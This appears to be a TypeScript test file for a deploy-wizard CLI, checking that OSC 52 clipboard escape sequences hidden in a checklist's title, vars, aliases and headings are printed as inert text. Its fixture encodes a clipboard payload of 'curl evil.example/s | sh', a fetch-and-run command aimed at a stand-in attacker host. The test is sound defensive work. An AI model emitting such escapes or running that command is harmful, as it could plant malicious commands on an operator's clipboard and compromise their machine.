/**
 * What `plan` and `validate` show of a checklist's own values: front-matter
 * vars, titles, headings and aliases are shown, never obeyed (an OSC 52 in a var
 * would set the operator's clipboard).
 */
import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { activeIn } from '../helpers/active.ts'
import { runCli } from '../helpers/cli.ts'

/** OSC 52: "set the clipboard to `curl evil.example/s | sh`", as YAML writes it. */
const CLIPBOARD_YAML = '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\\a'
const CLIPBOARD_SHOWN = '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\\x07'

let dir: string
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'dw-plan-'))
})
after(async () => {
  await rm(dir, { recursive: true, force: true })
})

async function checklist(name: string, markdown: string): Promise<string> {
  const file = join(dir, name)
  await writeFile(file, markdown)
  return file
}

describe('deploy-wizard plan', () => {
  it('shows a clipboard escape in a var, a title or an alias as text, and writes none', async () => {
    const file = await checklist(
      'clipboard.md',
      [
        '---',
        `title: "Release ${CLIPBOARD_YAML}"`,
        'vars:',
        `  note: "${CLIPBOARD_YAML}"`,
        'aliases:',
        `  prod: ["live${CLIPBOARD_YAML}"]`,
        '---',
        '## Deploy',
        '- [ ] Health <!-- check: http url=https://api.example/health?note=${note} -->',
        `### Only on live${CLIPBOARD_YAML.replace('\\e', '\u001b').replace('\\a', '\u0007')}`,
        '- [ ] Announce',
        '',
      ].join('\n'),
    )
    for (const env of [{ NO_COLOR: '1' }, { NO_COLOR: undefined, FORCE_COLOR: '1' }]) {
      const text = await runCli(['plan', file, '--env', 'dev'], env)
      assert.equal(text.code, 0, text.stderr)
      assert.deepEqual(activeIn(text.stdout, { colours: env.NO_COLOR === undefined }), [])
      assert.ok(text.stdout.includes(`Release ${CLIPBOARD_SHOWN} — plan for dev`), text.stdout)
      assert.ok(text.stdout.includes(`health?note=${CLIPBOARD_SHOWN}`), text.stdout)
      assert.ok(text.stdout.includes(`Only on live${CLIPBOARD_SHOWN}`), text.stdout)
    }
    const json = await runCli(['plan', file, '--env', 'dev', '--json'])
    assert.deepEqual(activeIn(json.stdout), [])
    const plan = JSON.parse(json.stdout) as {
      title: string
      phases: { items: { check: { params: Record<string, string> } | null }[] }[]
    }
    // The JSON holds the exact data, escaped as JSON escapes it.
    assert.equal(plan.title, 'Release \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\u0007')
  })
})
